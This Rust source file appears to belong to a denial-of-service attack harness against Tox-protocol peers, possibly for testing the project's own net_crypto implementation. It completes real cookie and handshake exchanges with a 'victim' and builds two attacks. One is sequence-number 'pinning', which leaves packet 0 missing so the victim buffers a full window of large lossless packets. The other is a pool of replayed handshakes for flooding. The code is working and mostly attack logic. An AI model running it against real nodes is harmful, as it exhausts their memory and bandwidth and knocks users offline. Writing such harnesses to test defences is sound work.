//! Real exchanges with the victim for the attacks that need them: a cookie (for handshake
//! floods) and a whole session (for out-of-order pinning), done by hand with net_crypto's
//! packet types so the attacker holds the session keys.

use std::io;
use std::net::{SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use rustox_net_crypto::crypto::{CryptoRng, KeyPair, Nonce, PrecomputedKey, PublicKey};
use rustox_net_crypto::packets::{
    seal_data_into, CookieResponse, EncryptedCookie, Handshake, COOKIE_RESPONSE_SIZE,
    HANDSHAKE_SIZE, MAX_CRYPTO_DATA_SIZE,
};

use super::flood::Source;
use super::forge;

/// How long to wait for each answer: loopback answers in microseconds, and a victim under
/// no load answers at once; more than this means the request was dropped.
const ANSWER_WAIT: Duration = Duration::from_millis(300);

/// Attempts per exchange. The victim answers cookie requests from a bucket of 10 that
/// refills one per 100 ms (c-toxcore v0.2.22's limit, `EndpointLimits`), so ten tries 300 ms
/// apart always find a token.
const ATTEMPTS: usize = 10;

/// `CRYPTO_PACKET_BUFFER_SIZE` (docs/protocol.md §2.8): the receive window in packets. Numbers
/// in `[start, start + WINDOW)` are buffered until the hole at `start` fills.
pub const WINDOW: u32 = 32768;

/// The lossless id the pinning payloads carry: 64 (`PACKET_ID_MESSAGE`, docs/protocol.md §3.1),
/// inside 16–191, so the victim must hold them in order.
const PINNED_PAYLOAD_ID: u8 = 64;

/// Why an exchange failed.
#[derive(Debug, thiserror::Error)]
pub enum SessionError {
    /// The socket.
    #[error("socket: {0}")]
    Io(#[from] io::Error),
    /// The victim's key is a low-order point.
    #[error("the victim's key cannot be used")]
    BadKey,
    /// No answer after every attempt.
    #[error("no {0} from the victim after {ATTEMPTS} attempts")]
    NoAnswer(&'static str),
}

/// An attacker identity with the shared key it boxes to the victim with.
pub struct Identity {
    /// Its long-term (and DHT) keys.
    pub keys: KeyPair,
    /// beforenm(victim pk, its sk).
    pub shared: PrecomputedKey,
}

impl Identity {
    /// A fresh identity towards `victim`.
    pub fn new(victim: &PublicKey, rng: &mut dyn CryptoRng) -> Result<Identity, SessionError> {
        let keys = KeyPair::generate(rng);
        let shared = forge::shared_key(&keys, victim).ok_or(SessionError::BadKey)?;
        Ok(Identity { keys, shared })
    }
}

/// Sends `request` until `answer` accepts a datagram from `to`.
fn exchange<T>(
    socket: &UdpSocket,
    to: SocketAddr,
    what: &'static str,
    mut request: impl FnMut() -> Vec<u8>,
    mut answer: impl FnMut(&[u8]) -> Option<T>,
) -> Result<T, SessionError> {
    let mut buf = [0u8; 2048];
    for _ in 0..ATTEMPTS {
        socket.send_to(&request(), to)?;
        let until = Instant::now() + ANSWER_WAIT;
        loop {
            let left = until.saturating_duration_since(Instant::now());
            if left.is_zero() {
                break;
            }
            socket.set_read_timeout(Some(left))?;
            match socket.recv_from(&mut buf) {
                Ok((n, from)) if from == to => {
                    if let Some(t) = answer(&buf[..n]) {
                        return Ok(t);
                    }
                }
                Ok(_) => {}
                Err(e)
                    if e.kind() == io::ErrorKind::WouldBlock
                        || e.kind() == io::ErrorKind::TimedOut =>
                {
                    break
                }
                Err(e) => return Err(e.into()),
            }
        }
    }
    Err(SessionError::NoAnswer(what))
}

/// A real cookie for `me` from the victim at `to`, asked for from `socket`.
pub fn fetch_cookie(
    socket: &UdpSocket,
    to: SocketAddr,
    me: &Identity,
    rng: &mut dyn CryptoRng,
) -> Result<EncryptedCookie, SessionError> {
    let echo = rng.next_u64();
    exchange(
        socket,
        to,
        "cookie response",
        || forge::cookie_request(&me.keys, &me.shared, echo, rng),
        |bytes| {
            if bytes.len() != COOKIE_RESPONSE_SIZE {
                return None;
            }
            let payload = CookieResponse::parse(bytes).ok()?.open(&me.shared).ok()?;
            (payload.echo_id == echo).then_some(payload.cookie)
        },
    )
}

/// A session the attacker completed with the victim: it knows the keys, so it can send
/// data packets the victim decrypts and must buffer.
pub struct PinnedSession {
    /// The socket the session runs on (the victim routes by source address).
    pub socket: UdpSocket,
    key: PrecomputedKey,
    nonce: Nonce,
    next_number: u32,
}

impl PinnedSession {
    /// Cookie, handshake, and the victim's handshake back, from a fresh socket on `ip`.
    pub fn open(
        ip: std::net::Ipv4Addr,
        to: SocketAddr,
        victim: &PublicKey,
        rng: &mut dyn CryptoRng,
    ) -> Result<PinnedSession, SessionError> {
        let socket = UdpSocket::bind((ip, 0))?;
        let me = Identity::new(victim, rng)?;
        let cookie = fetch_cookie(&socket, to, &me, rng)?;
        let session = KeyPair::generate(rng);
        let base_nonce = Nonce::random(rng);
        let hello = forge::handshake(&me.shared, cookie, victim, session.public, base_nonce, rng);
        let peer_session = exchange(
            &socket,
            to,
            "handshake",
            || hello.clone(),
            |bytes| {
                if bytes.len() != HANDSHAKE_SIZE {
                    return None;
                }
                let payload = Handshake::parse(bytes).ok()?.open(&me.shared).ok()?;
                Some(payload.session_pk)
            },
        )?;
        let key = PrecomputedKey::new(&peer_session, &session.secret)
            .map_err(|_| SessionError::BadKey)?;
        Ok(PinnedSession {
            socket,
            key,
            nonce: base_nonce,
            // 0 is the hole that pins everything above it.
            next_number: 1,
        })
    }

    /// The next data packet: a full-size lossless payload numbered one above the last,
    /// cycling through `1 .. WINDOW` so the hole at 0 never fills.
    fn next_packet(&mut self, payload: &[u8], out: &mut Vec<u8>) {
        // buffer_start 0: we acknowledge nothing of what the victim sends.
        let _ = seal_data_into(&self.key, &self.nonce, 0, self.next_number, payload, out);
        self.nonce.increment();
        self.next_number = if self.next_number + 1 >= WINDOW {
            1
        } else {
            self.next_number + 1
        };
    }
}

/// Round-robin over pinned sessions, each datagram from its own session's socket (outlet
/// `i` of the flood must be session `i`'s socket).
pub struct Pinning {
    sessions: Vec<PinnedSession>,
    payload: Vec<u8>,
    at: usize,
}

impl Pinning {
    /// Pins `sessions`; returns it and the outlets (clones of their sockets) in order.
    pub fn new(sessions: Vec<PinnedSession>) -> io::Result<(Pinning, Vec<super::flood::Outlet>)> {
        let outlets = sessions
            .iter()
            .map(|s| s.socket.try_clone().map(super::flood::Outlet::Udp))
            .collect::<io::Result<Vec<_>>>()?;
        let mut payload = vec![0xa5u8; MAX_CRYPTO_DATA_SIZE];
        payload[0] = PINNED_PAYLOAD_ID;
        Ok((
            Pinning {
                sessions,
                payload,
                at: 0,
            },
            outlets,
        ))
    }
}

impl Source for Pinning {
    fn next(&mut self, out: &mut Vec<u8>) -> usize {
        let i = self.at % self.sessions.len().max(1);
        self.at = self.at.wrapping_add(1);
        if let Some(s) = self.sessions.get_mut(i) {
            // What the victim sends back is never read: the kernel drops it once the
            // socket's buffer is full, which costs the victim nothing it would not spend anyway.
            s.next_packet(&self.payload, out);
        }
        i
    }
}

/// Handshakes for the replay flood: for each of `identities` fresh identities, a real
/// cookie; then per identity one handshake to be repeated verbatim and `fresh` handshakes
/// under the same cookie with fresh random session keys and base nonces. Returns the pool
/// with the verbatim repeats making half of it.
pub fn handshake_pool(
    socket: &UdpSocket,
    to: SocketAddr,
    victim: &PublicKey,
    identities: usize,
    fresh: usize,
    rng: &mut dyn CryptoRng,
) -> Result<Vec<Vec<u8>>, SessionError> {
    let mut pool = Vec::new();
    for _ in 0..identities {
        let me = Identity::new(victim, rng)?;
        let cookie = fetch_cookie(socket, to, &me, rng)?;
        let hello = |rng: &mut dyn CryptoRng| {
            let session = KeyPair::generate(rng);
            let base = Nonce::random(rng);
            forge::handshake(&me.shared, cookie, victim, session.public, base, rng)
        };
        let replayed = hello(rng);
        for _ in 0..fresh {
            pool.push(replayed.clone());
            pool.push(hello(rng));
        }
    }
    Ok(pool)
}
